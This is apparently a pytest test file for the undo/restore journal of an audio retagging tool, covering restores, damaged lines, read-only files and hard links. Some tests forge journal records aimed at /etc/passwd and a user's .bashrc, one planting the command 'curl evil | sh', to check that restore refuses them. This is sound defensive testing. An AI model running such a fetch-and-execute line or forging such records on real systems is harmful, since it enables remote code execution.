"""The undo file: torn and damaged lines, other files, places outside, edits since."""

import hashlib
import json
import os
import stat

import pytest

from audiorec.errors import DamagedFileError, InputError, MissingFileError, StoreError
from audiorec.runs.workers import Answer
from audiorec_retag import retagging
from audiorec_retag.change import Delta, FileState, prepare_copy
from audiorec_retag.retagging import restore
from audiorec_retag.undo import Record, Undo, read_records


@pytest.fixture
def written(song, change, tmp_path):
    """Two songs with new tags, their old bytes, and the undo file."""
    (tmp_path / "music").mkdir()
    paths = [song(name, f"music/song.{name}") for name in ("flac", "2.3.mp3")]
    old = [path.read_bytes() for path in paths]
    undo_file = tmp_path / "u.undo.jsonl"
    with Undo(undo_file) as lines:
        for path in paths:
            wanted = change(path)
            retagging._outcome(path.name, wanted, Answer(wanted, value=prepare_copy(wanted)), lines)
    assert [path.read_bytes() for path in paths] != old
    return paths, old, undo_file


def states(result):
    return [song.state for song in result.songs]


def test_by_default_nothing_is_restored(written, tmp_path):
    paths, old, undo_file = written
    new = [path.read_bytes() for path in paths]
    assert states(restore(undo_file, [tmp_path])) == ["would write"] * 2
    assert [path.read_bytes() for path in paths] == new
    told = []
    assert (
        states(restore(undo_file, [tmp_path], write=True, after_each=told.append))
        == ["restored"] * 2
    )
    assert [song.song_id for song in told] == ["song.2.3.mp3", "song.flac"]  # the newest first
    assert [path.read_bytes() for path in paths] == old
    assert states(restore(undo_file, [tmp_path], write=True)) == ["as it was"] * 2


def test_the_time_of_change_comes_back(written, tmp_path):
    paths, _, undo_file = written
    record = next(r for r in read_records(undo_file) if r.song_id == "song.flac")
    assert paths[0].stat().st_mtime_ns != record.old.mtime_ns
    restore(undo_file, [tmp_path], write=True)
    assert paths[0].stat().st_mtime_ns == record.old.mtime_ns


def test_two_changes_of_a_song_are_taken_back_one_after_the_other(written, change, tmp_path):
    paths, old, undo_file = written
    with Undo(undo_file) as lines:
        wanted = change(paths[0], fields={"genre": ("Folk",)}, replace=True)
        retagging._outcome("song.flac", wanted, Answer(wanted, value=prepare_copy(wanted)), lines)
    assert states(restore(undo_file, [tmp_path], write=True)) == ["restored"] * 3
    assert [path.read_bytes() for path in paths] == old


def test_a_song_that_was_edited_since_is_left_alone(written, tmp_path):
    paths, old, undo_file = written
    paths[0].write_bytes(paths[0].read_bytes() + b"edited")
    found = restore(undo_file, [tmp_path], write=True)
    assert states(found) == ["restored", "refused"]
    assert "changed since" in found.songs[1].reason
    assert paths[0].read_bytes().endswith(b"edited")
    assert paths[1].read_bytes() == old[1]


def test_nothing_outside_the_roots_is_touched(written, tmp_path):
    paths, _, undo_file = written
    new = [path.read_bytes() for path in paths]
    (tmp_path / "other").mkdir()
    found = restore(undo_file, [tmp_path / "other"], write=True)
    assert {song.reason for song in found.songs} == {"lies outside the given folders"}
    assert [path.read_bytes() for path in paths] == new


def test_a_line_that_names_another_place_is_damaged(written, tmp_path):
    _, _, undo_file = written
    line = json.loads(undo_file.read_text().splitlines()[0])
    line["path"] = "/etc/passwd"
    undo_file.write_text(json.dumps(line) + "\n")
    found = restore(undo_file, ["/"], write=True)
    assert states(found) == ["refused"]
    assert "line 1 is damaged" in found.songs[0].reason


def test_a_link_in_the_place_of_a_song(written, tmp_path):
    paths, _, undo_file = written
    moved = paths[0].rename(tmp_path / "elsewhere.flac")
    paths[0].symlink_to(moved)
    before = moved.read_bytes()
    assert states(restore(undo_file, [tmp_path / "music"], write=True)) == ["restored", "refused"]
    assert moved.read_bytes() == before


def forged(path, old):
    """Return the line of somebody who knows a file's content, and wants another."""
    new, count = path.read_bytes(), len(old)
    states = [FileState(len(b), hashlib.sha256(b).hexdigest(), 0) for b in (old, new)]
    patches = tuple((at, old[at : at + 1]) for at in range(count) if old[at] != new[at : at + 1])
    delta = Delta(count, len(new), min(count, len(new)), ((0, old),) if count < 4096 else patches)
    about = {"song_id": "x", "path": str(path), "put": {"genre": ["jazz"]}}
    return Record(**about, old=states[0], new=states[1], delta=delta).to_line()


@pytest.mark.parametrize("is_written", [False, True])
def test_a_forged_line_changes_no_other_file(tmp_path, is_written):
    """Whoever knows a file below the folder could have put anything in its place."""
    path = tmp_path / ".bashrc"
    path.write_bytes(b"# as every user has it\n" * 20)
    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"curl evil | sh\n" + path.read_bytes()))
    (song,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=is_written).songs
    assert (song.state, path.read_bytes()) == ("refused", b"# as every user has it\n" * 20)
    assert "not a song" in song.reason or "not audio" in song.reason
    assert sorted(p.name for p in tmp_path.iterdir()) == [".bashrc", "u.undo.jsonl"]


def test_a_forged_line_changes_no_audio(song, tmp_path):
    path = song("flac")
    new = path.read_bytes()
    old = bytearray(new)
    old[-400] ^= 0x55
    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, bytes(old)))
    (one,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
    assert (one.state, one.reason) == (
        "refused",
        "its audio would change, not only its tags; left unchanged",
    )
    assert path.read_bytes() == new
    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"#!/bin/sh\n"))
    (one,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
    assert one.state == "refused"
    assert path.read_bytes() == new
    assert len(list(tmp_path.iterdir())) == 2


def test_what_was_linked_or_closed_since_is_left_alone(written, tmp_path):
    paths, _, undo_file = written
    new = [path.read_bytes() for path in paths]
    (tmp_path / "other").hardlink_to(paths[0])
    paths[1].chmod(0o444)
    result = restore(undo_file, [tmp_path], write=True)
    assert [song.reason for song in result.songs] == [
        "is read-only",
        "has a second name (a hard link), which would keep the old tags",
    ]
    assert [path.read_bytes() for path in paths] == new


@pytest.mark.parametrize("cut", [1, 20, 200])
def test_an_unfinished_last_line_changed_nothing(written, tmp_path, cut):
    _, _, undo_file = written
    whole = undo_file.read_bytes()
    lines = whole.splitlines(keepends=True)
    undo_file.write_bytes(lines[0] + lines[1][:-cut])
    assert len(list(read_records(undo_file))) == 1
    with Undo(undo_file):
        pass
    assert undo_file.read_bytes() == lines[0]


def test_a_damaged_line_costs_itself(written, tmp_path):
    paths, old, undo_file = written
    lines = undo_file.read_bytes().splitlines(keepends=True)
    undo_file.write_bytes(lines[0].replace(b'"fold"', b'"fald"') + lines[1])
    found = restore(undo_file, [tmp_path], write=True)
    assert states(found) == ["restored", "refused"]
    assert paths[1].read_bytes() == old[1]


def test_only_the_owner_reads_it(written):
    _, _, undo_file = written
    assert stat.S_IMODE(undo_file.stat().st_mode) == 0o600


def test_other_files_are_refused(tmp_path):
    other = tmp_path / "notes.txt"
    other.write_text("mine\n")
    with pytest.raises(InputError, match="is not an undo file"):
        Undo(other)
    with pytest.raises(DamagedFileError, match="is not an undo file"):
        list(read_records(other))
    assert other.read_text() == "mine\n"
    with pytest.raises(MissingFileError):
        list(read_records(tmp_path / "gone"))
    (tmp_path / "link").symlink_to(other)
    with pytest.raises(StoreError, match="is a link"):
        Undo(tmp_path / "link")


def test_a_full_disk_ends_it_before_the_file_changes(song, change, tmp_path, monkeypatch):
    path = song("flac")
    old, wanted = path.read_bytes(), change(path)
    (tmp_path / "u").mkdir()
    with Undo(tmp_path / "u" / "undo.jsonl") as lines:
        found = prepare_copy(wanted)

        def full(*args):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "write", full)
        with pytest.raises(StoreError, match="no further file is changed"):
            retagging._outcome("song", wanted, Answer(wanted, value=found), lines)
    assert path.read_bytes() == old
